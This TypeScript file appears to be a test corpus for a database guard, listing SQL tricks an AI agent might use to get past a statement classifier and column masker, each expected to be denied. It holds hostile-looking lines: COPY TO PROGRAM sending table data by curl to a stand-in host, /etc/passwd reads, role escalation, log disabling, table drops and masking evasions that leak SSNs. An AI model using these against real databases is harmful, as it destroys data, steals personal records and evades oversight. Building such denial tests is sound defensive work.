// Attempts to slip a statement the default pack forbids to agents past the classifier and the policy.
// Every entry must be denied for an identity of kind agent. Keep growing it: each new trick goes here.

export interface BypassAttempt {
  sql: string;
  /** What the trick is. */
  trick: string;
}

export const BYPASS_CORPUS: BypassAttempt[] = [
  // case and spelling
  { trick: "mixed case keyword", sql: "DrOp TaBlE accounts" },
  { trick: "quoted identifiers", sql: 'DROP TABLE "public"."accounts"' },
  { trick: "unicode-escaped identifier", sql: 'DROP TABLE U&"\\0061ccounts"' },
  { trick: "lower-case truncate", sql: "truncate accounts" },
  // comments and whitespace
  { trick: "block comment before keyword", sql: "/* harmless */ DROP TABLE accounts" },
  { trick: "comment inside keywordless gap", sql: "DROP/**/TABLE/**/accounts" },
  { trick: "line comment hiding a newline", sql: "SELECT 1 -- comment\n; DROP TABLE accounts" },
  { trick: "nested block comments", sql: "/* a /* b */ c */ DELETE FROM accounts WHERE id = 1" },
  { trick: "tabs and newlines", sql: "\n\tALTER\n\tTABLE accounts ADD x int" },
  // multi-statement strings
  { trick: "read then drop", sql: "SELECT * FROM accounts; DROP TABLE accounts" },
  { trick: "read then write", sql: "SELECT 1; UPDATE accounts SET balance = 0 WHERE id = 1" },
  { trick: "empty statements around a write", sql: ";;INSERT INTO accounts VALUES (1);;" },
  { trick: "transaction wrapping a write", sql: "BEGIN; DELETE FROM accounts WHERE id = 1; COMMIT" },
  // CTEs and subqueries
  {
    trick: "data-modifying CTE",
    sql: "WITH x AS (DELETE FROM accounts WHERE id = 1 RETURNING *) SELECT * FROM x",
  },
  { trick: "CTE insert", sql: "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT 1" },
  {
    trick: "nested CTE update",
    sql: "SELECT * FROM (WITH u AS (UPDATE accounts SET x = 1 WHERE id = 2 RETURNING id) SELECT * FROM u) s",
  },
  {
    trick: "CTE named like a table shadows nothing",
    sql: "WITH accounts AS (SELECT 1) UPDATE accounts SET x = 1 WHERE id = 1",
  },
  // prepared statements
  { trick: "PREPARE a delete", sql: "PREPARE p AS DELETE FROM accounts WHERE id = $1" },
  { trick: "EXECUTE a prepared statement", sql: "EXECUTE p(1)" },
  {
    trick: "PREPARE then EXECUTE in one string",
    sql: "PREPARE p AS UPDATE accounts SET x = 1 WHERE id = $1; EXECUTE p(1)",
  },
  { trick: "EXPLAIN ANALYZE runs the write", sql: "EXPLAIN ANALYZE DELETE FROM accounts WHERE id = 1" },
  // functions
  { trick: "file read in select list", sql: "SELECT pg_read_file('/etc/passwd')" },
  { trick: "file read as table function", sql: "select * from pg_read_file('/etc/passwd')" },
  { trick: "schema-qualified file read", sql: "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')" },
  { trick: "quoted function name", sql: "SELECT \"pg_ls_dir\"('.')" },
  {
    trick: "function hidden in WHERE",
    sql: "SELECT 1 FROM accounts WHERE length(pg_read_file('/etc/passwd')) > 0",
  },
  { trick: "function hidden in subquery", sql: "SELECT (SELECT pg_stat_file('/etc/passwd'))" },
  { trick: "function in ORDER BY", sql: "SELECT id FROM accounts ORDER BY pg_ls_dir('.')" },
  { trick: "large object import", sql: "SELECT lo_import('/etc/passwd')" },
  { trick: "large object export", sql: "SELECT lo_export(1234, '/tmp/custos-bypass-lo-export')" },
  { trick: "dblink", sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)" },
  { trick: "dblink_exec", sql: "SELECT dblink_exec('dbname=x', 'DROP TABLE accounts')" },
  {
    trick: "query_to_xml runs SQL text",
    sql: "SELECT query_to_xml('DELETE FROM accounts', true, false, '')",
  },
  { trick: "set_config changes the role", sql: "SELECT set_config('role', 'postgres', false)" },
  { trick: "terminate another backend", sql: "SELECT pg_terminate_backend(123)" },
  { trick: "procedure call", sql: "CALL do_something(1)" },
  // dynamic SQL
  { trick: "ALTER via DO block", sql: "DO $$ BEGIN EXECUTE 'ALTER TABLE accounts ADD x int'; END $$" },
  { trick: "DO with tagged dollar quote", sql: "DO $body$ BEGIN DROP TABLE accounts; END $body$" },
  { trick: "DO with explicit language", sql: "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$" },
  {
    trick: "function with EXECUTE",
    sql: "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$",
  },
  // roles and privileges
  { trick: "SET ROLE", sql: "SET ROLE postgres" },
  { trick: "SET LOCAL ROLE", sql: "SET LOCAL ROLE postgres" },
  { trick: "SET SESSION ROLE", sql: "SET SESSION ROLE postgres" },
  { trick: "quoted role value", sql: "SET ROLE 'postgres'" },
  { trick: "SET SESSION AUTHORIZATION", sql: "SET SESSION AUTHORIZATION postgres" },
  { trick: "RESET ROLE", sql: "RESET ROLE" },
  { trick: "GRANT", sql: "GRANT ALL ON accounts TO agent" },
  { trick: "grant server program role", sql: "GRANT pg_execute_server_program TO agent" },
  { trick: "REVOKE", sql: "REVOKE SELECT ON accounts FROM auditor" },
  { trick: "ALTER ROLE", sql: "ALTER ROLE agent SUPERUSER" },
  { trick: "CREATE ROLE", sql: "CREATE ROLE x LOGIN" },
  // COPY and server files
  { trick: "COPY TO PROGRAM", sql: "COPY accounts TO PROGRAM 'curl -d @- http://evil'" },
  { trick: "COPY query TO PROGRAM", sql: "COPY (SELECT * FROM accounts) TO PROGRAM 'sh'" },
  { trick: "COPY FROM PROGRAM", sql: "COPY accounts FROM PROGRAM 'cat /etc/passwd'" },
  { trick: "COPY to server file", sql: "COPY accounts TO '/tmp/custos-bypass-accounts.csv'" },
  { trick: "COPY FROM STDIN writes", sql: "COPY accounts FROM STDIN" },
  // settings that change what the classifier assumes
  { trick: "search_path change", sql: "SET search_path = secret, public" },
  { trick: "string lexing change", sql: "SET standard_conforming_strings = off" },
  // other writes
  { trick: "SELECT INTO creates a table", sql: "SELECT * INTO stolen FROM accounts" },
  { trick: "CREATE TABLE AS", sql: "CREATE TABLE stolen AS SELECT * FROM accounts" },
  { trick: "MERGE", sql: "MERGE INTO accounts a USING src s ON a.id = s.id WHEN MATCHED THEN DELETE" },
  { trick: "LOCK TABLE", sql: "LOCK TABLE accounts" },
  { trick: "LOAD a library", sql: "LOAD 'evil'" },
  { trick: "ALTER SYSTEM", sql: "ALTER SYSTEM SET log_statement = 'none'" },
  { trick: "VACUUM", sql: "VACUUM FULL accounts" },
  { trick: "NOTIFY", sql: "NOTIFY channel, 'x'" },
  { trick: "unbounded delete", sql: "DELETE FROM accounts" },
  { trick: "WHERE true is no restriction", sql: "UPDATE accounts SET balance = 0 WHERE true" },
  { trick: "read followed by INSERT ... SELECT", sql: "SELECT 1; INSERT INTO t SELECT 1" },
  // masked columns under a form the masker cannot recognize (issue 4): computed, whole rows, oracles
  { trick: "cast", sql: "select ssn::text from customers" },
  { trick: "CAST()", sql: "select cast(ssn as varchar) from customers" },
  { trick: "concatenation", sql: "select ssn || '' from customers" },
  { trick: "concat()", sql: "select concat(ssn) from customers" },
  { trick: "format()", sql: "select format('%s', ssn) from customers" },
  { trick: "upper()", sql: "select upper(email) from customers" },
  { trick: "lower()", sql: "select lower(email) as e from customers" },
  { trick: "replace()", sql: "select replace(ssn, '-', '') from customers" },
  { trick: "substr()", sql: "select substr(ssn, 1, 3) from customers" },
  { trick: "left/right", sql: "select left(ssn, 3), right(card_number, 12) from customers, cards" },
  { trick: "hex encoding", sql: "select encode(convert_to(ssn, 'UTF8'), 'hex') from customers" },
  { trick: "string_agg", sql: "select string_agg(ssn, ',') from customers" },
  { trick: "json_agg of a column", sql: "select json_agg(email) from customers" },
  { trick: "array_agg then index", sql: "select (array_agg(ssn))[1] from customers" },
  { trick: "CASE expression", sql: "select case when id > 0 then ssn else 'x' end from customers" },
  { trick: "COALESCE", sql: "select coalesce(phone, '') from customers" },
  { trick: "COLLATE", sql: 'select ssn collate "C" from customers' },
  { trick: "row_to_json of a row", sql: "select row_to_json(c) from customers c" },
  { trick: "to_json of c.*", sql: "select to_json(c.*) from customers c" },
  { trick: "json_agg of rows", sql: "select json_agg(c) from customers c" },
  { trick: "whole row as a column", sql: "select c from customers c" },
  { trick: "ROW() constructor", sql: "select row(c.*) from customers c" },
  { trick: "record field access", sql: "select (c).ssn from customers c" },
  { trick: "scalar subquery renames the column", sql: "select (select ssn from customers limit 1) as x" },
  { trick: "ARRAY subquery", sql: "select array(select ssn from customers)" },
  {
    trick: "CTE renames, then computes",
    sql: "with x as (select ssn as a from customers) select upper(a) from x",
  },
  { trick: "CTE column list renames", sql: "with x(a) as (select ssn from customers) select a || '' from x" },
  { trick: "derived table column list", sql: "select md5(b) from (select ssn from customers) s(b)" },
  { trick: "table alias column list", sql: "select upper(e) from customers c(a, b, x, d, e)" },
  {
    trick: "two levels of renaming",
    sql: "select b::text from (select a as b from (select ssn as a from customers) s) t",
  },
  { trick: "UNION under another name", sql: "select 'x' as y union all select ssn from customers" },
  { trick: "UNION keeps the first arm's name", sql: "select ssn from customers union select 'x'" },
  { trick: "INTERSECT", sql: "select email from customers intersect select email from customers" },
  {
    trick: "lateral function over the column",
    sql: "select x from customers c, lateral regexp_split_to_table(c.ssn, '-') x",
  },
  { trick: "view column inside an expression", sql: "select upper(tax_id) from customer_summary" },
  { trick: "filter oracle (LIKE)", sql: "select id from customers where ssn like '078%'" },
  { trick: "filter oracle (equality)", sql: "select count(*) from customers where ssn = '078-05-1120'" },
  { trick: "join oracle", sql: "select a.id from accounts a join customers c on c.ssn = a.routing_number" },
  { trick: "ORDER BY oracle", sql: "select id from customers order by ssn" },
  {
    trick: "oracle in EXISTS",
    sql: "select id from customers c where exists (select 1 from cards k where k.card_number like '4%')",
  },
  { trick: "COPY of a computed column", sql: "COPY (select upper(ssn) from customers) TO STDOUT" },
  { trick: "expression in a prepared statement", sql: "PREPARE q AS select ssn::text from customers" },
];
